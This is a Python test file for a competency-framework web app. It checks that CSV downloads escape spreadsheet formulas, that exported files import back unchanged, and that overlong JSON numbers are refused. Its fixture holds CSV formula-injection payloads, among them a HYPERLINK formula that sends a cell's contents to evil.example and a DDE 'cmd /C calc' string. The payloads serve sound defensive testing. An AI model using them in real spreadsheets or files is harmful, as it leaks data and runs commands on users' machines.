"""Framework files are safe both ways: the CSV download never holds a cell a spreadsheet would run as
a formula, importing that download gives back exactly the same framework, and a JSON file Python
cannot read (a number thousands of digits long) is refused with a reason, not a server error."""

import csv
import io
import json

import pytest
from sqlalchemy import func, select

from journal.competencies.framework_import import FrameworkFileError, parse_framework_csv, parse_framework_json
from journal.competencies.frameworks import as_parsed, framework_csv, framework_with_content
from journal.models import AuditEvent, Framework

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Texts a spreadsheet would run, and texts that merely look like an escaped one.
HOSTILE = {
    "name": "Hostile",
    "description": "=1+1",
    "domains": [
        {
            "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
            "canmeds_role": "-Leader",
            "competencies": [
                {"code": "-1", "title": "+SUM(1,2)", "description": "@import evil", "required_level": 3},
                {"code": "A2", "title": "'=already quoted", "description": "''=two quotes", "required_level": 2},
                {"code": "A3", "title": "'plain apostrophe", "description": "'", "required_level": 1},
            ],
        },
        {
            "title": "@Clinical",
            "canmeds_role": "",
            "competencies": [
                {
                    "code": "B1",
                    "title": "-cmd|' /C calc'!A0",
                    "description": "Line one\n=line two",
                    "required_level": 4,
                },
            ],
        },
    ],
}


@pytest.fixture
def coordinator(make, auth):
    found = make.admin()
    auth.login(found.email)
    return found


def _content(app, framework_id: int):
    """A saved framework's domains and competencies, as plain values."""
    with app.app_context():
        parsed = as_parsed(framework_with_content(framework_id))
    return [
        (d.title, d.canmeds_role, [(c.code, c.title, c.description, c.required_level) for c in d.competencies])
        for d in parsed.domains
    ]


def _import(client, data: bytes, filename: str, name: str = "Hostile"):
    return client.post(
        "/cohorts/frameworks/import",
        data={"name": name, "upload": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )


def test_the_csv_download_holds_no_formula_and_imports_back_exactly(app, client, coordinator, query):
    response = _import(client, json.dumps(HOSTILE).encode(), "hostile.json")
    assert response.status_code == 302, response.get_data(as_text=True)
    first = query(lambda s: s.scalar(select(Framework).where(Framework.version == 1)))

    download = client.get(f"/cohorts/frameworks/{first.id}/csv")
    assert download.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(download.get_data(as_text=True))) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in cells

    again = _import(client, download.data, "edited.csv")
    assert again.status_code == 302, again.get_data(as_text=True)
    second = query(lambda s: s.scalar(select(Framework).where(Framework.version == 2)))
    assert _content(app, second.id) == _content(app, first.id)
    hostile_titles = [d["title"] for d in HOSTILE["domains"]]
    assert [title for title, _, _ in _content(app, second.id)] == hostile_titles


def test_an_imported_csv_cell_quoted_by_a_spreadsheet_reads_as_the_text_it_stands_for():
    text = "domain,code,title,description,required_level\n'@Team,X1,'=2+2,'-dash,3\n"
    competency = parse_framework_csv(text).domains[0].competencies[0]
    assert (parse_framework_csv(text).domains[0].title, competency.title, competency.description) == (
        "@Team",
        "=2+2",
        "-dash",
    )


# Formulas, and texts that merely look like an escaped one (they must not lose an apostrophe).
TITLES = ["=A1", "+1", "-1", "@A", "\tx", "\rx", "'=A1", "''", "'", "'x", "a=b"]


def test_every_text_written_to_csv_is_no_formula_and_reads_back_the_same():
    parsed = parse_framework_csv("domain,code,title,description,required_level\nD,C1,T,d,2\n")
    for title in TITLES:
        parsed.domains[0].competencies[0].description = title
        written = framework_csv(parsed)
        cells = [cell for row in csv.reader(io.StringIO(written)) for cell in row]
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), written
        # Reading strips the spaces around a cell (a tab or a carriage return at the start included).
        assert parse_framework_csv(written).domains[0].competencies[0].description == title.strip(), title


LONG_NUMBER = "1" + "0" * 4999


def _with_long_level() -> str:
    document = {"name": "Big", "domains": [{"title": "D", "competencies": [{"code": "A1", "title": "T"}]}]}
    return json.dumps(document).replace('"title": "T"', f'"title": "T", "required_level": {LONG_NUMBER}')


def test_a_json_number_too_long_for_python_is_reported_as_a_problem_of_the_file():
    with pytest.raises(FrameworkFileError) as caught:
        parse_framework_json(_with_long_level())
    (problem,) = caught.value.problems
    assert problem.where == "File"
    assert "5000 digits" in problem.reason and "line 1, column" in problem.reason


@pytest.mark.parametrize("how", ["upload", "pasted"])
def test_the_import_page_refuses_a_json_number_too_long_with_422_and_imports_nothing(client, coordinator, query, how):
    text = _with_long_level()
    events = query(lambda s: s.scalar(select(func.count(AuditEvent.id))))
    if how == "upload":
        response = _import(client, text.encode(), "big.json", name="Big")
    else:
        response = client.post("/cohorts/frameworks/import", data={"name": "Big", "pasted": text})
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "Nothing was imported" in page and "5000 digits" in page
    assert query(lambda s: s.scalar(select(func.count(Framework.id)))) == 0
    assert query(lambda s: s.scalar(select(func.count(AuditEvent.id)))) == events
